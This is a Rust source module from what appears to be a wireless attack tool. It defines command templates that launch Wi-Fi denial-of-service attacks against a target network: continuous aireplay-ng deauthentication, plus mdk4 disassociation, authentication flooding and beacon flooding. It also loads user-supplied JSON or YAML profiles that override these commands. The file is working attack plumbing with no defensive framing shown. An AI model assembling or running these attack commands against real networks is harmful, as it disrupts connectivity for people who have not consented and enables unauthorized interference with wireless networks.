// SPDX-License-Identifier: PMPL-1.0-or-later

//! Attack profiles: which program runs each attack kind, and with what
//! arguments.

use crate::types::AttackKind;
use anyhow::{anyhow, Context, Result};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::fs;
use std::path::Path;

const TARGET_PLACEHOLDER: &str = "{target}";
const INTERFACE_PLACEHOLDER: &str = "{interface}";

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CommandTemplate {
    pub program: String,
    #[serde(default)]
    pub args: Vec<String>,
}

impl CommandTemplate {
    pub fn new(program: &str, args: &[&str]) -> Self {
        Self {
            program: program.to_string(),
            args: args.iter().map(|arg| arg.to_string()).collect(),
        }
    }

    /// Substitute `{target}` and `{interface}` in every argument.
    pub fn render(&self, target: &str, interface: Option<&str>) -> Result<Vec<String>> {
        self.args
            .iter()
            .map(|arg| {
                let mut rendered = arg.replace(TARGET_PLACEHOLDER, target);
                if rendered.contains(INTERFACE_PLACEHOLDER) {
                    let iface = interface.ok_or_else(|| {
                        anyhow!(
                            "{} needs a wireless interface but none is configured",
                            self.program
                        )
                    })?;
                    rendered = rendered.replace(INTERFACE_PLACEHOLDER, iface);
                }
                Ok(rendered)
            })
            .collect()
    }
}

#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct AttackProfile {
    #[serde(default)]
    pub interface: Option<String>,
    #[serde(default)]
    pub commands: HashMap<AttackKind, CommandTemplate>,
}

impl AttackProfile {
    /// Default commands for every kind. No interface is set.
    pub fn builtin() -> Self {
        let mut commands = HashMap::new();
        commands.insert(
            AttackKind::Deauth,
            CommandTemplate::new(
                "aireplay-ng",
                &["--deauth", "0", "-a", "{target}", "{interface}"],
            ),
        );
        commands.insert(
            AttackKind::Disassoc,
            CommandTemplate::new("mdk4", &["{interface}", "d", "-B", "{target}"]),
        );
        commands.insert(
            AttackKind::AuthFlood,
            CommandTemplate::new("mdk4", &["{interface}", "a", "-a", "{target}"]),
        );
        commands.insert(
            AttackKind::BeaconFlood,
            CommandTemplate::new("mdk4", &["{interface}", "b", "-n", "{target}"]),
        );
        Self {
            interface: None,
            commands,
        }
    }

    /// Load a profile; kinds it does not list keep their builtin command.
    pub fn load(path: &Path) -> Result<Self> {
        let content = fs::read_to_string(path)
            .with_context(|| format!("reading attack profile {}", path.display()))?;
        let parsed: AttackProfile = match path.extension().and_then(|ext| ext.to_str()) {
            Some("json") => serde_json::from_str(&content)
                .with_context(|| format!("parsing json attack profile {}", path.display()))?,
            Some("yaml") | Some("yml") => serde_yaml::from_str(&content)
                .with_context(|| format!("parsing yaml attack profile {}", path.display()))?,
            _ => {
                return Err(anyhow!(
                    "unsupported attack profile extension for {}",
                    path.display()
                ))
            }
        };

        let mut profile = Self::builtin();
        profile.interface = parsed.interface;
        profile.commands.extend(parsed.commands);
        Ok(profile)
    }

    pub fn command_for(&self, kind: AttackKind) -> Result<&CommandTemplate> {
        self.commands
            .get(&kind)
            .ok_or_else(|| anyhow!("no command configured for {} attacks", kind))
    }
}
